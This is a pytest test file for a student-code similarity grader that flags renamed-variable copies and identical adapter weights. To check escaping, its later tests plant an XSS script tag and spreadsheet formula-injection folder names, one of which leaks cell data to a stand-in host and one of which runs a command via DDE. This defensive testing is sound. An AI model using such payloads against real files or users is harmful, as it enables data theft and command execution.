"""The class similarity report (grader/similarity.py): a planted copy (renamed variables, reordered
functions) comes out on top, the same trained weights handed in twice are flagged, and students
who followed the same tutorial (the honest corpus) are never flagged against each other."""
from __future__ import annotations

import csv
import json
import os

from grader.similarity import compare_class, write_report
from tests.conftest import honest_submission, make_submission

# a student's own build_records/process_func, not the tutorial's: written another way
ORIGINAL = '''

def _load_pairs(path):
    """读取问答对：每行一个 JSON，字段 q / a。"""
    pairs = []
    with open(path, encoding="utf-8") as handle:
        for line_no, line in enumerate(handle):
            line = line.strip()
            if not line or line.startswith("#"):
                continue
            item = json.loads(line)
            if "q" not in item or "a" not in item:
                raise ValueError(f"line {line_no}: need q and a")
            pairs.append((item["q"].strip(), item["a"].strip()))
    return pairs


def _augment(pairs, times, seed):
    rng = random.Random(seed)
    out = []
    for round_index in range(times):
        shuffled = list(pairs)
        rng.shuffle(shuffled)
        for question, answer in shuffled:
            if round_index % 3 == 2 and not question.endswith("？"):
                question = question + "？"
            out.append({"instruction": question, "input": "", "output": answer})
    return out


def _encode_chatml(tok, system, user, answer, limit):
    head = tok("<|im_start|>system\\n" + system + "<|im_end|>\\n<|im_start|>user\\n" + user
               + "<|im_end|>\\n<|im_start|>assistant\\n", add_special_tokens=False)["input_ids"]
    body = tok(answer, add_special_tokens=False)["input_ids"] + [tok.pad_token_id]
    ids = (head + body)[:limit]
    mask = [1 for _ in ids]
    target = ([-100 for _ in head] + body)[:limit]
    return ids, mask, target
'''

COPY = '''

def encode_conversation(tokenizer_obj, sys_text, question_text, reply_text, max_len):
    prefix = tokenizer_obj("<|im_start|>system\\n" + sys_text + "<|im_end|>\\n<|im_start|>user\\n" + question_text
                           + "<|im_end|>\\n<|im_start|>assistant\\n", add_special_tokens=False)["input_ids"]
    suffix = tokenizer_obj(reply_text, add_special_tokens=False)["input_ids"] + [tokenizer_obj.pad_token_id]
    tokens = (prefix + suffix)[:max_len]
    ones = [1 for _ in tokens]
    lab = ([-100 for _ in prefix] + suffix)[:max_len]
    return tokens, ones, lab


def expand_dataset(qa_list, repeat, random_seed):
    generator = random.Random(random_seed)
    result = []
    for r in range(repeat):
        order = list(qa_list)
        generator.shuffle(order)
        for q, a in order:
            if r % 3 == 2 and not q.endswith("？"):
                q = q + "？"
            result.append({"instruction": q, "input": "", "output": a})
    return result


def read_qa(filename):
    # 读数据
    data = []
    with open(filename, encoding="utf-8") as fh:
        for n, row in enumerate(fh):
            row = row.strip()
            if not row or row.startswith("#"):
                continue
            obj = json.loads(row)
            if "q" not in obj or "a" not in obj:
                raise ValueError(f"line {n}: need q and a")
            data.append((obj["q"].strip(), obj["a"].strip()))
    return data
'''

# another student's own code, unrelated to ORIGINAL: two students with their own ideas are not "similar"
OTHER = '''

class RecordBook:
    """问答记录本 / a notebook of records kept in a sqlite table."""

    def __init__(self, database):
        self.connection = sqlite3.connect(database)
        self.connection.execute("create table if not exists qa (question text, answer text, weight int)")

    def add(self, question, answer, weight=1):
        self.connection.execute("insert into qa values (?, ?, ?)", (question, answer, weight))
        self.connection.commit()

    def records(self):
        rows = self.connection.execute("select question, answer, weight from qa order by rowid").fetchall()
        return [{"instruction": q, "input": "", "output": a} for q, a, w in rows for _ in range(w)]
'''


def _with_own_code(root, code: str, student: str):
    sub = make_submission(root / student, assignment="qwen2_lora")
    path = sub / "qwen2_lora" / "train.py"
    path.write_text(path.read_text(encoding="utf-8").replace("import os\n", "import json\nimport os\nimport random\n"
                                                             "import sqlite3\n") + code, encoding="utf-8")
    return sub


def _class(tmp_path):
    """A class: six honest students who followed the tutorial their own ways, two with code of
    their own, one who copied one of them, and two who handed in the same adapter."""
    root = tmp_path / "class"
    for name in ("lora_tutorial_pasted", "lora_records_from_json", "lora_apply_chat_template",
                 "lora_other_identity", "lora_notebook", "lora_eos_token"):
        honest_submission(name, root / name)
    make_submission(root / "ref_copy", assignment="qwen2_lora")
    _with_own_code(root, ORIGINAL, "wang")
    _with_own_code(root, COPY, "li")
    _with_own_code(root, OTHER, "zhao")
    weights = os.urandom(4096)
    for student, data in (("chen", weights), ("zhou", weights), ("sun", os.urandom(4096))):
        sub = make_submission(root / student, assignment="qwen2_lora")
        (sub / "qwen2_lora" / "output").mkdir()
        (sub / "qwen2_lora" / "output" / "adapter_model.safetensors").write_bytes(data)
    return root


def test_planted_copy_on_top_and_honest_students_not_flagged(tmp_path):
    root = _class(tmp_path)
    students = sorted(p for p in root.iterdir())
    pairs = compare_class(students, ("qwen2_lora",))
    flagged = [{p.a, p.b} for p in pairs if p.flagged]
    assert flagged and flagged[0] == {"chen", "zhou"}, pairs[:3]   # identical weights first
    assert flagged[1] == {"li", "wang"}, [(p.a, p.b, p.shared, p.share_a, p.share_b) for p in pairs[:5]]
    assert len(flagged) == 2, [(p.a, p.b, p.shared, p.share_a, p.share_b) for p in pairs if p.flagged]
    copy = next(p for p in pairs if {p.a, p.b} == {"li", "wang"})
    assert copy.share_a > 0.8 and copy.share_b > 0.8, copy
    assert "<mark>" in copy.passages_a and "<mark>" in copy.passages_b
    # zhao's own code shares nothing long enough with wang's
    assert not any({p.a, p.b} == {"wang", "zhao"} and p.flagged for p in pairs)


def test_report_files(tmp_path):
    root = _class(tmp_path)
    out = tmp_path / "reports"
    out.mkdir()
    # a student's code that looks like markup stays text in the report
    (root / "li" / "qwen2_lora" / "train.py").write_text(
        (root / "li" / "qwen2_lora" / "train.py").read_text(encoding="utf-8").replace(
            "# 读数据", "# <script>alert(1)</script> 读数据"), encoding="utf-8")
    write_report(sorted(root.iterdir()), out, ("qwen2_lora",))
    html = (out / "similarity.html").read_text(encoding="utf-8")
    assert "<script>alert" not in html and "wang" in html and "adapter_model.safetensors" in html
    assert html.index("chen") < html.index("wang")
    with (out / "similarity.csv").open(encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    flagged = [{r["student_a"], r["student_b"]} for r in rows if r["flagged"] == "1"]
    assert flagged == [{"chen", "zhou"}, {"li", "wang"}]
    assert rows[0]["identical_weights"] == "output/adapter_model.safetensors"


def test_unreadable_and_hostile_files_are_skipped(tmp_path):
    root = tmp_path / "class"
    for student in ("a", "b"):
        folder = root / student / "qwen2_lora"
        folder.mkdir(parents=True)
        (folder / "train.py").write_bytes(b"\xff\xfe not utf-8 \x00" * 10)
        (folder / "nb.ipynb").write_text(json.dumps({"cells": "not a list"}), encoding="utf-8")
        (folder / "loop").symlink_to(folder)          # a link loop is never followed
        (folder / "big.py").write_bytes(b"x = 1\n" * 200_000)   # over the size cap: skipped
    pairs = compare_class(sorted(root.iterdir()), ("qwen2_lora",))
    assert not any(p.flagged for p in pairs)


def test_similarity_command(tmp_path):
    import subprocess
    import sys

    root = _class(tmp_path)
    done = subprocess.run([sys.executable, "-m", "grader.cli", "similarity", str(root), "--out", str(tmp_path / "out"),
                           "--assignment", "qwen2_lora"], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0 and "2 flagged pair(s)" in done.stdout, done.stdout + done.stderr
    assert (tmp_path / "out" / "similarity.html").is_file()


# folder names hold no "/": the formulas a student can still spell as one
FORMULA_NAMES = ('=HYPERLINK("http:\\evil.example?leak="&A1,"click")', "@SUM(1+1)*cmd|' -C calc'!A0", "+1+cmd", "-2+3")


def _no_formula(path):
    with path.open(encoding="utf-8", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    bad = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:].replace(".", "").isdigit())]
    assert not bad, bad
    return cells


def test_malformed_notebooks_and_formula_names_never_blind_the_report(tmp_path):
    """One student's malformed notebooks (JSON nested past Python's limit, a cell source of numbers)
    are listed as unreadable and everything else is still compared: the planted copy is flagged.
    Folder names that a spreadsheet would run as formulas reach similarity.csv as text."""
    root = _class(tmp_path)
    li = root / "li" / "qwen2_lora"
    (li / "deep.ipynb").write_text('{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}", encoding="utf-8")
    (li / "numbers.ipynb").write_text(json.dumps({"cells": [{"cell_type": "code", "source": [1, 2, 3]}]}),
                                      encoding="utf-8")
    (root / "chen").rename(root / FORMULA_NAMES[0])   # one of the two who hand in the same weights
    out = tmp_path / "reports"
    out.mkdir()
    write_report(sorted(root.iterdir()), out, ("qwen2_lora",))
    html = (out / "similarity.html").read_text(encoding="utf-8")
    assert "li/deep.ipynb" in html and "li/numbers.ipynb" in html, html[:3000]
    cells = _no_formula(out / "similarity.csv")
    assert "'" + FORMULA_NAMES[0] in cells
    with (out / "similarity.csv").open(encoding="utf-8") as f:
        flagged = [{r["student_a"], r["student_b"]} for r in csv.DictReader(f) if r["flagged"] == "1"]
    assert {"li", "wang"} in flagged and {"'" + FORMULA_NAMES[0], "zhou"} in flagged, flagged
